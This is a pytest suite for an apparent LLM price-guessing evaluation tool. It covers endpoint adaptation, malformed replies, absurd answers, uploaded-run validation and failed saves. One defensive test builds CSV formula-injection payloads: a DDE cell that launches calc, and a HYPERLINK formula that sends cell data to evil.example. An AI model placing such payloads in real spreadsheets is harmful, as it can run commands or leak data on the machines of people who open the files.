"""Evaluate holds up: shared adaptation, bad 200s, absurd answers, formulas, failed saves."""

from __future__ import annotations

import csv
import errno
import io
import json
import math
import os
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

import ftkit.history as history
from ftkit.cli import main
from ftkit.errors import EvaluationError
from ftkit.evaluation.chat import MAX_ANSWER_CHARS, ChatPredictor
from ftkit.evaluation.run import Run, evaluate
from ftkit.evaluation.saved import load_run, run_from_bytes, run_to_csv, save_run
from ftkit.evaluation.scoring import parse_guess, score_item
from ftkit.history import list_runs
from tests.fake_chat import completion, serve, strict_endpoint
from tests.test_chat_evaluate import client_for, make_item

ITEMS = [make_item(f"Item {i:02d}", 10.0 + i) for i in range(30)]
KEYS = ("OPENAI_API_KEY", "OPENAI_BASE_URL", "AZURE_OPENAI_ENDPOINT", "AZURE_OPENAI_API_KEY")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    for name in KEYS:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("FTKIT_DATABASE_URL", f"sqlite:///{tmp_path / 'history.db'}")
    monkeypatch.setenv("FTKIT_USER", "ana@example.com")
    monkeypatch.chdir(tmp_path)
    yield tmp_path
    history.close_all()


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out, err


def last_line(err: str) -> str:
    return err.strip().splitlines()[-1]


# 2. Adapting to the endpoint: once, for every worker.


@pytest.mark.parametrize(
    ("max_tokens", "prefill"),
    [(False, True), (True, False), (False, False)],
    ids=["refuses-max_tokens", "refuses-prefill", "refuses-both"],
)
def test_five_workers_adapt_once_and_score_all_thirty(max_tokens: bool, prefill: bool) -> None:
    # The delay keeps the first five requests in flight together: all five get the 400.
    with serve(strict_endpoint("42", max_tokens=max_tokens, prefill=prefill), delay=0.05) as fake:
        predictor = ChatPredictor(client=client_for(fake), model="o3-mini")
        started = time.monotonic()
        run = evaluate(ITEMS, predictor, model="o3-mini", workers=5)
    assert run.complete and len(run.rows) == 30 and run.failed == 0
    assert [r.guess for r in run.rows] == [42.0] * 30
    refused = 2 if not (max_tokens or prefill) else 1
    assert len(fake.requests) <= 30 + 5 * refused  # only requests already in flight are refused
    assert time.monotonic() - started < 10
    assert (predictor.token_parameter == "max_tokens") is max_tokens
    assert predictor.prefill is prefill


def test_the_cli_with_default_workers_adapts_for_all(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with serve(strict_endpoint("19.99", max_tokens=False), delay=0.02) as fake:
        code, out, err = cli(
            capsys,
            *("evaluate", "--model", "o3-mini", "--base-url", fake.url, "--size", "30"),
            *("--json", "--no-save", "--no-history"),
        )
    assert code == 0, err
    assert [item["guess"] for item in orjson.loads(out)["items"]] == [19.99] * 30
    assert "max_tokens" not in fake.requests[-1]


def test_a_400_naming_max_tokens_only_in_its_param_is_adapted_to() -> None:
    refusal = {"error": {"message": "Unsupported parameter.", "param": "max_tokens", "type": "x"}}
    raw = ("raw", 400, json.dumps(refusal).encode(), "application/json")

    def reply(body: dict[str, Any], attempt: int) -> tuple[Any, ...]:
        return raw if "max_tokens" in body else ("answer", "7")

    with serve(reply, delay=0.02) as fake:
        run = evaluate(ITEMS[:10], ChatPredictor(client=client_for(fake), model="m"), model="m")
    assert run.complete and [r.guess for r in run.rows] == [7.0] * 10


# 7. A 200 that is not a chat completion: the item fails with a reason, never a traceback.

BAD_BODIES = [
    (b"{not json", "application/json"),
    (b"", "application/json"),
    (b'{"choices": "x"}', "application/json"),
    (b'{"choices": []}', "application/json"),
    (b"[]", "application/json"),
    (b"<html>oops</html>", "text/html"),
]
BAD_IDS = ["invalid-json", "empty", "choices-a-string", "no-choices", "a-list", "html"]


@pytest.mark.parametrize(("body", "kind"), BAD_BODIES, ids=BAD_IDS)
def test_a_bad_200_fails_the_item_with_a_reason(body: bytes, kind: str) -> None:
    def half_bad(request: dict[str, Any], attempt: int) -> tuple[Any, ...]:
        odd = int(request["messages"][1]["content"].split("Item ")[1][:2]) % 2
        return ("raw", 200, body, kind) if odd else ("answer", "20")

    with serve(half_bad) as fake:
        run = evaluate(ITEMS[:6], ChatPredictor(client=client_for(fake), model="m"), model="m")
    assert [r.title for r in run.rows] == ["Item 00", "Item 02", "Item 04"]
    assert run.failed == 3 and run.stopped is None
    assert len(fake.requests) == 6  # a reply that came back is not asked for again


@pytest.mark.parametrize(("body", "kind"), BAD_BODIES, ids=BAD_IDS)
def test_the_cli_ends_a_run_of_bad_200s_with_one_line(
    db: Path, capsys: pytest.CaptureFixture[str], body: bytes, kind: str
) -> None:
    with serve(lambda request, attempt: ("raw", 200, body, kind)) as fake:
        code, out, err = cli(
            capsys, "evaluate", "--model", "m", "--base-url", fake.url, "--size", "30"
        )
    assert code == 2 and out == ""
    assert last_line(err).startswith("ftkit: error: run stopped: the first 5 items all failed")
    assert "HTTP 200 but the reply is not" in last_line(err)
    assert [line for line in err.splitlines() if line.startswith("ftkit:")] == [last_line(err)]


def test_token_counts_and_answers_a_server_inflates_are_bounded() -> None:
    reply = completion("25 " + "x" * 100_000, "m")
    reply["usage"] = {"prompt_tokens": 10**30, "completion_tokens": -4, "total_tokens": "many"}
    raw = ("raw", 200, json.dumps(reply).encode(), "application/json")
    with serve(lambda request, attempt: raw) as fake:
        run = evaluate(ITEMS[:3], ChatPredictor(client=client_for(fake), model="m"), model="m")
    assert [r.guess for r in run.rows] == [25.0] * 3
    assert {len(r.answer or "") for r in run.rows} == {MAX_ANSWER_CHARS}
    assert (run.input_tokens, run.output_tokens) == (0, 0)


# 9. An absurd answer is unparsed; the metrics stay finite and the saved run reads back.

ABSURD = ["inf", "-inf", "nan", "Infinity", "1e309", "-1e400", "1" + "0" * 400, "99999999.5"]


@pytest.mark.parametrize("answer", ABSURD, ids=[a[:12] for a in ABSURD])
def test_an_absurd_answer_is_no_number(answer: str) -> None:
    assert parse_guess(answer) is None
    assert parse_guess(f"Price is ${answer}") is None


@pytest.mark.parametrize("answer", ["1,000,000", "$999,999.99", "1.5e3"])
def test_a_large_but_possible_price_still_counts(answer: str) -> None:
    assert parse_guess(answer) == float(answer.replace("$", "").replace(",", ""))


def test_absurd_answers_leave_the_metrics_finite_and_the_run_readable(tmp_path: Path) -> None:
    answers = {item.title: ABSURD[i] if i < len(ABSURD) else "30" for i, item in enumerate(ITEMS)}

    def reply(request: dict[str, Any], attempt: int) -> tuple[Any, ...]:
        title = request["messages"][1]["content"].split("\n\n")[1].split("\n")[0]
        return ("answer", answers[title])

    with serve(reply) as fake:
        run = evaluate(ITEMS, ChatPredictor(client=client_for(fake), model="m"), model="m")
    m = run.metrics
    assert m.unparsed == len(ABSURD) and m.size == 30
    numbers = [m.average_error, m.rmsle, m.hit_rate_pct, m.mse, m.r2 or 0.0]
    assert all(math.isfinite(n) for n in numbers)
    json_path, _ = save_run(run, tmp_path)
    again = load_run(json_path)
    assert again.metrics == m and [r.answer for r in again.rows] == [r.answer for r in run.rows]


def test_the_cli_scores_an_absurd_answer_as_unparsed(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with serve(lambda request, attempt: ("answer", "1" + "0" * 400)) as fake:
        code, out, err = cli(
            capsys,
            *("evaluate", "--model", "m", "--base-url", fake.url, "--size", "5", "--json"),
            *("--out", "runs"),
        )
    assert code == 0, err
    data = orjson.loads(out)
    assert data["unparsed"] == 5 and data["average_error"] > 0
    saved = next((db / "runs").glob("*.json"))
    assert load_run(saved).metrics.unparsed == 5


@pytest.mark.parametrize(
    ("field", "value"),
    [("guess", 1e300), ("guess", -1e300), ("truth", 1e300)],
    ids=["huge-guess", "huge-negative-guess", "huge-truth"],
)
def test_an_uploaded_run_with_absurd_numbers_is_finite_or_one_line(
    field: str, value: float
) -> None:
    item = {"title": "Mug", "truth": 10.0, "guess": 12.0, "parsed": True, "answer": "12"}
    data = orjson.dumps({"model": "m", "items": [{**item, field: value}]})
    if field == "truth":
        with pytest.raises(
            EvaluationError, match=r"^up\.json: items\[0\]: truth must be a positive"
        ):
            run_from_bytes(data, "up.json")
        return
    run = run_from_bytes(data, "up.json")
    assert run.metrics.unparsed == 1 and math.isfinite(run.metrics.mse)


@pytest.mark.parametrize(
    ("field", "value"),
    [("requested", "abc"), ("failed", -1), ("input_tokens", 10**15), ("elapsed_s", "nan")],
    ids=["text-count", "negative-count", "huge-count", "nan-seconds"],
)
def test_an_uploaded_run_with_a_bad_field_is_one_line_naming_it(field: str, value: Any) -> None:
    item = {"title": "Mug", "truth": 10.0, "guess": 12.0}
    data = orjson.dumps({"model": "m", "items": [item], field: value})
    with pytest.raises(EvaluationError, match=rf"^up\.json: {field} must be"):
        run_from_bytes(data, "up.json")


def test_a_malformed_cost_estimate_is_dropped_not_trusted() -> None:
    cost = {"model": "m", "input_tokens": "x", "output_tokens": 1, "dollars": 1.0}
    item = {"title": "Mug", "truth": 10.0, "guess": 12.0}
    run = run_from_bytes(orjson.dumps({"model": "m", "items": [item], "cost_estimate": cost}), "u")
    assert run.cost is None and run.metrics.size == 1


# 15. Every CSV cell a spreadsheet would run as a formula is escaped (OWASP: a leading quote).


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_no_csv_cell_starts_like_a_formula(start: str) -> None:
    title, answer = f"{start}cmd|' /C calc'!A0", f'{start}HYPERLINK("http://evil.example/?"&A1)'
    rows = (
        score_item(title, 10.0, -2.5, answer=answer),
        score_item(f"{start}SUM(A1:A9)", 30.0, None, answer=f"{start}1+1"),
    )
    text = run_to_csv(Run(model="m", source="", requested=2, rows=rows))
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert not [cell for row in table for cell in row if cell.startswith(FORMULA_STARTS)]
    assert table[1][0] == f"'{title}" and table[1][7] == f"'{answer}"
    assert table[1][2] == "'-2.5"  # a negative guess too: every cell, as OWASP says
    assert table[2][0] == f"'{start}SUM(A1:A9)" and table[2][7] == f"'{start}1+1"


# 8. A run that cannot be saved is still printed and recorded; the error names the path.


def _save_fails(monkeypatch: pytest.MonkeyPatch, code: int, on_call: int) -> None:
    real, calls = os.replace, []

    def replace(src: Any, dst: Any) -> None:
        calls.append(dst)
        if len(calls) == on_call:
            raise OSError(code, os.strerror(code))
        real(src, dst)

    monkeypatch.setattr(os, "replace", replace)


@pytest.mark.parametrize(
    ("setup", "named"),
    [
        ("out-is-a-file", "runs.txt"),
        ("out-under-a-file", "runs.txt/sub"),
        ("disk-full-json", "baseline_mean-"),
        ("disk-full-csv", ".csv"),
        ("permission-denied", "baseline_mean-"),
        ("read-only-disk", "baseline_mean-"),
    ],
)
def test_a_run_that_cannot_be_saved_is_printed_recorded_and_named(
    db: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    setup: str,
    named: str,
) -> None:
    (db / "runs.txt").write_text("not a folder")
    out_dir = {"out-is-a-file": "runs.txt", "out-under-a-file": "runs.txt/sub"}.get(setup, "runs")
    failure = {
        "disk-full-json": (errno.ENOSPC, 1),
        "disk-full-csv": (errno.ENOSPC, 2),
        "permission-denied": (errno.EACCES, 1),
        "read-only-disk": (errno.EROFS, 1),
    }.get(setup)
    if failure is not None:
        _save_fails(monkeypatch, *failure)
    code, out, err = cli(
        capsys, "evaluate", "--model", "baseline:mean", "--size", "20", "--out", out_dir
    )
    assert code == 2
    assert out.startswith("baseline:mean Error=$") and "items 20 of 20" in out
    line = last_line(err)
    assert line.startswith("ftkit: error: the run was not saved: ") and named in line
    assert not [line for line in err.splitlines() if line.startswith("saved:")]
    (recorded,) = list_runs("evaluate")
    assert recorded.outputs["metrics"]["scored"] == 20 and recorded.outputs["saved_path"] is None
    if (db / "runs").exists():
        assert list((db / "runs").iterdir()) == []  # no half of a run, no temp file


def test_a_run_that_cannot_be_saved_still_prints_its_items_with_json(
    db: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    _save_fails(monkeypatch, errno.ENOSPC, 1)
    code, out, err = cli(
        capsys, "evaluate", "--model", "baseline:mean", "--size", "20", "--json", "--out", "runs"
    )
    assert code == 2 and len(orjson.loads(out)["items"]) == 20
    assert "No space left on device" in last_line(err)


def test_a_model_name_too_long_for_a_file_name_still_saves(tmp_path: Path) -> None:
    run = Run(model="ft:" + "x" * 1000, source="", requested=1, rows=(score_item("M", 9, 9),))
    json_path, csv_path = save_run(run, tmp_path)
    assert load_run(json_path).model == run.model and csv_path.exists()
